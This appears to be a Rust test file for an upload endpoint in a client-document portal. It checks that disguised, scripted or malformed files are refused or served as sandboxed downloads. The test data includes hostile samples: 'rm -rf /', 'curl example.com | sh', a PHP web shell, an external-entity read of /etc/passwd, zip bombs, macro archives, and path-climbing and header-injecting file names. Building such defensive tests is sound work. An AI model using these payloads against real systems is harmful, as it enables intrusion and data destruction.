//! Files that are not what they say (promises.md P18): refused with words, or harmless on their way out.

use super::*;
use axum::body::Body;
use futures_util::{Stream, stream};
use http::{Method, Request, header};
use std::{convert::Infallible, future, sync::Arc};
use tokio::sync::Notify;

/// A part of a form, as it is sent.
fn part(name: &str, file: &str, content: &str) -> String {
    let file = if file.is_empty() { String::new() } else { format!("; filename=\"{file}\"") };
    format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"{file}\r\n\r\n{content}\r\n")
}

/// A form with files on its way to a page, piece by piece.
fn in_pieces(
    browser: &Browser<'_>,
    path: &str,
    pieces: impl Stream<Item = Result<String, Infallible>> + Send + 'static,
) -> Request<Body> {
    let kind = "multipart/form-data; boundary=b";
    let request = browser.request(Method::POST, path).header("sec-fetch-site", "same-origin").header(header::CONTENT_TYPE, kind);
    request.body(Body::from_stream(pieces)).expect("a request")
}

async fn refused(browser: &Browser<'_>, path: &str, name: &str, content: &[u8], says: &str) {
    browser.open(path).await;
    browser.attach("Choose files", name, content).press("Upload").await.status(422).shows(says);
}

stories! {
    /// Told by content: names and declared types decide nothing.
    async fn what_can_run_is_not_taken(house) {
        let ana = house.client(ANA).await;
        let sam = house.sign_in(SAM).await;
        let path = format!("/clients/{ana}/documents");
        let behind = |first: Vec<u8>, second: &[u8]| [first, second.to_vec()].concat();
        let many = |name: &str| archive(&[("[Content_Types].xml", 1), ("word/document.xml", 1), (name, 1)]);
        let marked = |at: usize| { let mut picture = png(); picture.splice(at..at, *b"<script>x</script>"); picture };
        for (name, content, says) in [
            ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".to_vec(), "Web pages and SVG"),
            ("drawing.png", b"  <?xml version='1.0'?><svg onload='x'/>".to_vec(), "Web pages and SVG"),
            ("letter.pdf", b"<!DOCTYPE html><html><script>1</script></html>".to_vec(), "Web pages and SVG"),
            ("note.txt", b"Dear all, <script>alert(1)</script>".to_vec(), "Web pages and SVG"),
            ("note.txt", b"#!/bin/sh\nrm -rf /\n".to_vec(), "Scripts can’t be uploaded"),
            ("note.js", b"alert(1)".to_vec(), "Scripts can’t be uploaded"),
            ("photo.jpg", b"MZ\x90\0\x03\0\0\0".to_vec(), "Programs can’t be uploaded"),
            ("photo.jpg", b"\x7fELF\x02\x01\x01\0".to_vec(), "Programs can’t be uploaded"),
            ("empty.pdf", Vec::new(), "The file is empty"),
            ("half.pdf", b"%PDF-1.7\n1 0 obj".to_vec(), "damaged or was cut off"),
            ("photo.png", png()[..30].to_vec(), "damaged or was cut off"),
            ("photo.png", behind(png(), b"more"), "damaged or was cut off"),
            ("photo.png", marked(33), "damaged or was cut off"),
            ("plan.pdf", behind(pdf("x"), &docx()), "two different types"),
            ("photo.jpg", behind(b"\xff\xd8\xff\xe0 a picture \xff\xd9".to_vec(), &docx()), "two different types"),
            ("photo.jpg", b"\xff\xd8\xff\xe0 <ScRiPt>alert(1)</script> \xff\xd9".to_vec(), "Web pages and SVG"),
            ("page.pdf", b"%PDF-1.7\n<html><script>1</script></html>\n%%EOF".to_vec(), "two different types"),
            ("bomb.docx", archive(&[("[Content_Types].xml", 1), ("word/document.xml", 900_000_000)]), "far more than it should"),
            ("files.zip", archive(&[("a.txt", 1)]), "Files of this type can’t be uploaded"),
            ("macros.docx", many("word/vbaProject.bin"), "macros or programs"),
            ("program.docx", many("word/setup.exe"), "macros or programs"),
            ("climbing.docx", many("../../evil.xml"), "damaged or was cut off"),
            ("cut.docx", docx()[..60].to_vec(), "damaged or was cut off"),
            ("movie.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isom".to_vec(), "Files of this type can’t be uploaded"),
            ("binary.txt", b"text\0and more".to_vec(), "Files of this type can’t be uploaded"),
        ] {
            refused(&sam, &path, name, &content, says).await;
        }
        assert_eq!(contents(house).len(), 0, "nothing of them stays");
        let (rows,): (i64,) = house.one("select count(*) from documents", values![]).await;
        assert_eq!(rows, 0);
    }

    /// P18: a hundred and twenty files that mean harm. Each is refused, or leaves as a download in which nothing runs.
    async fn a_hundred_and_twenty_files(house) {
        let ana = house.client(ANA).await;
        let sam = house.sign_in(SAM).await;
        let tab = format!("/clients/{ana}/documents");
        let behind = |first: Vec<u8>, second: &[u8]| [first, second.to_vec()].concat();
        let wide = |text: &str| [b"\xff\xfe".to_vec(), text.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat();
        let harmful: [(&str, Vec<u8>); 24] = [
            ("svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec()),
            ("svg behind a comment", b"<!-- x --><svg><script>alert(1)</script></svg>".to_vec()),
            ("svg with a doctype", b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>".to_vec()),
            ("html", b"<html><body onload=alert(1)>".to_vec()),
            ("html behind a mark", b"\xef\xbb\xbf\n\n <!doctype html><script>alert(1)</script>".to_vec()),
            ("html in wide letters", wide("<html><script>alert(1)</script>")),
            ("html late", behind(vec![b' '; 5_000], b"<script>alert(1)</script>")),
            ("web archive", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<html><script>alert(1)</script>".to_vec()),
            ("php", b"<?php system($_GET['c']); ?>".to_vec()),
            ("shell", b"#!/bin/sh\ncurl example.com | sh\n".to_vec()),
            ("batch", b"@echo off\r\ndel /q *\r\n".to_vec()),
            ("postscript", b"%!PS\n(%pipe%id) (w) file\n".to_vec()),
            ("program", b"MZ\x90\0\x03\0\0\0\x04".to_vec()),
            ("program of another house", b"\x7fELF\x02\x01\x01\0".to_vec()),
            ("shortcut", b"L\0\0\0\x01\x14\x02\0".to_vec()),
            ("pdf that runs", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n".to_vec()),
            ("pdf and html", b"%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF\n".to_vec()),
            ("pdf and zip", behind(pdf("x"), &docx())),
            ("picture and html", { let mut all = png(); all.splice(33..33, *b"<html><script>alert(1)</script>"); all }),
            ("picture and archive", behind(png(), &docx())),
            ("picture and program", behind(b"\xff\xd8\xff\xe0<?php x ?>".to_vec(), b"\xff\xd9")),
            ("bomb", archive(&[("[Content_Types].xml", 1), ("word/document.xml", 4_000_000_000)])),
            ("macros", archive(&[("[Content_Types].xml", 1), ("word/document.xml", 1), ("word/vbaProject.bin", 1)])),
            ("climbing", archive(&[("[Content_Types].xml", 1), ("word/document.xml", 1), ("../../.ssh/authorized_keys", 1)])),
        ];
        let (mut tried, mut taken) = (0, 0);
        for (what, content) in &harmful {
            for name in ["../../index.html", "letter.pdf", "photo.png", "notes.txt", "report.docx"] {
                sam.open(&tab).await;
                let answer = sam.attach("Choose files", name, content).press("Upload").await;
                tried += 1;
                if answer.code.as_u16() == 422 {
                    continue;
                }
                taken += 1;
                let file = sam.open(&format!("{tab}/{}/file", newest(house).await)).await.status(200);
                assert!(file.header("content-disposition").starts_with("attachment; filename=\""), "{what} as {name}");
                assert_eq!(file.header("x-content-type-options"), "nosniff", "{what} as {name}");
                assert!(file.header("content-security-policy").ends_with("; sandbox"), "{what} as {name}");
                assert!(["application/pdf", "text/plain"].contains(&file.header("content-type")), "{what} as {name} is {}", file.header("content-type"));
            }
        }
        assert_eq!(tried, 120);
        assert!(taken <= 5, "only the PDF that would run within itself is taken, not {taken}");
    }

    /// Files beside a field that no page has: refused, and nothing of them stays on the disk, at the portal and at the desk.
    async fn files_of_a_form_that_is_refused_do_not_stay(house) {
        let (maya, sam) = (house.activate(MAYA).await, house.sign_in(SAM).await);
        let tab = format!("/clients/{}/documents", house.client(MAYA).await);
        for (browser, path) in [(&maya, "/p/alder-wren/documents"), (&sam, &*tab)] {
            let parts = [part("file", "a.txt", "words"), part("file", "b.txt", "more words"), part("x", "", "1"), "--b--\r\n".into()];
            let pieces = stream::iter([Ok(parts.concat())]);
            browser.ask(in_pieces(browser, path, pieces)).await.status(400);
            assert_eq!(contents(house).len(), 0, "{path}");
        }
        house.carry_letters().await;
    }

    /// Access that ends while the files arrive: none of them stays.
    async fn files_do_not_outstay_access(house) {
        let maya = house.activate(MAYA).await;
        house.carry_letters().await;
        let portico = house.portico.clone();
        let pieces = stream::unfold(0, move |at| {
            let portico = portico.clone();
            async move {
                if at == 1 {
                    let mut transaction = portico.database.begin().await.expect("the database is there");
                    let ended = transaction.run("update grants set ended_at = $1", values![portico.clock.now()]).await;
                    ended.expect("ended");
                    transaction.commit().await.expect("kept");
                }
                let piece = [part("file", "a.txt", "words"), part("file", "b.txt", "more words"), "--b--\r\n".into()].into_iter().nth(at);
                piece.map(|piece| (Ok(piece), at + 1))
            }
        });
        // What is changed here meanwhile is not the request's doing.
        let (page, _) = house.statements_of(maya.ask(in_pieces(&maya, "/p/alder-wren/documents", pieces))).await;
        page.status(404);
        assert_eq!(contents(house).len(), 0);
        house.stand_anew().await;
    }

    /// Whoever hangs up after the first file leaves nothing behind.
    async fn an_upload_that_breaks_off_leaves_nothing(house) {
        let maya = house.activate(MAYA).await;
        let far_enough = Arc::new(Notify::new());
        let told = far_enough.clone();
        // The first file is whole. The second goes on letter by letter, and then nothing comes any more.
        let pieces = stream::unfold(0, move |at| {
            let told = told.clone();
            async move {
                let piece = match at {
                    0 => part("file", "a.txt", "words") + "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"b.txt\"\r\n\r\n",
                    1..200 => "x".to_owned(),
                    _ => {
                        told.notify_one();
                        future::pending().await
                    }
                };
                Some((Ok(piece), at + 1))
            }
        });
        maya.hang_up(in_pieces(&maya, "/p/alder-wren/documents", pieces), far_enough.notified()).await;
        assert_eq!(contents(house).len(), 0);
        house.carry_letters().await;
    }

    /// What is taken, by its content, with the ending of what it is.
    async fn what_is_taken_gets_its_own_ending(house) {
        let ana = house.client(ANA).await;
        let sam = house.sign_in(SAM).await;
        let mut odt = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\x27\0\0\0\x27\0\0\0\x08\0\0\0mimetypeapplication/vnd.oasis.opendocument.text".to_vec();
        let list = archive(&[("mimetype", 1), ("content.xml", 1)]);
        let list_at = list.windows(4).position(|four| four == b"PK\x01\x02").expect("a list");
        let place = u32::try_from(odt.len()).expect("small");
        let mut rest = list[list_at..].to_vec();
        let end = rest.len() - 6;
        rest[end..end + 4].copy_from_slice(&place.to_le_bytes());
        odt.extend_from_slice(&rest);
        for (sent, content, kept) in [
            ("a.exe", pdf("x"), "a.exe.pdf"),
            ("b.html", png(), "b.html.png"),
            ("c", b"\xff\xd8\xff\xe0 a picture \xff\xd9".to_vec(), "c.jpg"),
            ("d.webp", b"RIFF\x08\0\0\0WEBPVP8 ".to_vec(), "d.webp"),
            ("e.heic", b"\0\0\0\x10ftypheic\0\0\0\0\0\0\0\x08mdat".to_vec(), "e.heic"),
            ("f.csv", b"name,amount\nAna,3\n".to_vec(), "f.csv"),
            ("g.md", "Größe, schön".as_bytes().to_vec(), "g.md.txt"),
            ("h.docx", docx(), "h.docx"),
            ("i.xlsx", archive(&[("[Content_Types].xml", 1), ("xl/workbook.xml", 1)]), "i.xlsx"),
            ("j.odt", odt, "j.odt"),
        ] {
            let document = uploaded(house, &sam, ANA, sent, &content).await;
            let (name,): (String,) = house.one("select name from documents where id = $1", values![document]).await;
            assert_eq!(name, kept);
            assert_eq!(sam.open(&format!("/clients/{ana}/documents/{document}/file")).await.body, content, "{sent}");
        }
    }

    /// Names that climb, break lines or turn the writing: a name and nothing else, in the list and in the header.
    async fn names_do_nothing(house) {
        let ana = house.client(ANA).await;
        let sam = house.sign_in(SAM).await;
        for (sent, header) in [
            ("../../../etc/cron.d/evil", "attachment; filename=\"evil.pdf\""),
            ("a%0d%0aSet-Cookie: x=1.pdf", "attachment; filename=\"a_0d_0aSet-Cookie_ x=1.pdf\""),
            ("<img src=x onerror=alert(1)>.pdf", "attachment; filename=\"_img src_x onerror_alert(1)_.pdf\"; filename*=UTF-8''_img%20src%3Dx%20onerror%3Dalert%281%29_.pdf"),
            ("\u{202e}fdp.gnp", "attachment; filename=\"fdp.gnp.pdf\""),
            ("NUL", "attachment; filename=\"_NUL.pdf\""),
            ("Überweisung.pdf", "attachment; filename=\"_berweisung.pdf\"; filename*=UTF-8''%C3%9Cberweisung.pdf"),
        ] {
            let document = uploaded(house, &sam, ANA, sent, &pdf("x")).await;
            let page = sam.page();
            assert!(!page.text().contains("<img src"), "{sent}");
            let file = sam.open(&format!("/clients/{ana}/documents/{document}/file")).await;
            if sent.contains("%0d") { assert!(file.header("content-disposition").starts_with("attachment; filename=\"a_0d_0aSet-Cookie_ x")); } else { assert_eq!(file.header("content-disposition"), header); }
            assert_eq!(file.header("set-cookie"), "");
        }
        let outside = files(house).into_iter().filter(|(path, _)| path.to_string_lossy().contains("evil")).count();
        assert_eq!(outside, 0);
    }

    /// Too large, no room: said by name, and the others are kept.
    async fn sizes_and_room_are_bounded(house) {
        let small = with(house, DocumentSettings { largest: 1_000, per_client: 1_500, per_practice: 100_000, ..DocumentSettings::USUAL });
        let sam = small.sign_in(SAM).await;
        let ana = small.client(ANA).await;
        let path = format!("/clients/{ana}/documents");
        refused(&sam, &path, "large.txt", &[b'x'; 1_001], "The file is too large").await;
        uploaded(&small, &sam, ANA, "first.txt", &[b'x'; 1_000]).await;
        refused(&sam, &path, "second.txt", &[b'x'; 501], "There is no room left for it").await;
        uploaded(&small, &sam, ANA, "third.txt", &[b'x'; 500]).await;
        assert_eq!(contents(&small).len(), 2, "what found no room is gone from the disk");
    }
}
